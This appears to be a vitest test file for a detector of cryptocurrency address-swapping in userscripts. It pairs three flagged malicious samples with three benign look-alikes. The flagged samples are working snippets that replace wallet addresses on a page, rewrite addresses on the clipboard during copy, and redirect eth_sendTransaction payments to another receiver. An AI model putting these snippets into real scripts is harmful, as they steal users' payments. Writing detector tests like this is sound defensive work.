import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { addressSwap } from "./address-swap.ts";

describe("address-swap", () => {
	test.each([
		[
			"addresses on the page",
			["critical 1"],
			`var mine="0x52908400098527886E0F7030069857D2E4169EE7",el;document.querySelectorAll("code").forEach(function(el){el.textContent=el.textContent.replace(/0x[0-9a-fA-F]{40}/g,mine)})`,
		],
		[
			"addresses that are copied",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`document.addEventListener("copy",e=>{e.clipboardData.setData("text/plain",getSelection().toString().replace(/\\b0x[a-f0-9]{40}\\b/gi,"0x52908400098527886E0F7030069857D2E4169EE7"));e.preventDefault()})`,
			),
		],
		[
			"payments turned to another receiver",
			["critical 7"],
			userscript(
				["match https://shop.example/*"],
				`const ask=ethereum.request;
ethereum.request=c=>{
if(c.method==="eth_sendTransaction")c.params[0].to=home();
return ask(c)};function home(){return window.x}`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(addressSwap, code)).toEqual(expected);
	});

	test.each([
		[
			"addresses made into links",
			userscript(
				["match https://shop.example/*"],
				`document.querySelectorAll("code").forEach(c=>{c.innerHTML=c.textContent.replace(/0x[0-9a-fA-F]{40}/g,a=>"<a href=/address/"+a+">"+a+"</a>")})`,
			),
		],
		[
			"a warning before a payment",
			userscript(
				["match https://shop.example/*"],
				`const ask=ethereum.request;ethereum.request=c=>c.method==="eth_sendTransaction"&&!confirm("Pay?")?Promise.reject():ask(c)`,
			),
		],
		[
			"an address for thanks",
			userscript(
				["match https://shop.example/*"],
				`const b=document.createElement("button");document.body.append(b);
b.textContent="0x52908400098527886E0F7030069857D2E4169EE7".replace("0x","0x ")`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(addressSwap, code)).toEqual([]);
	});
});
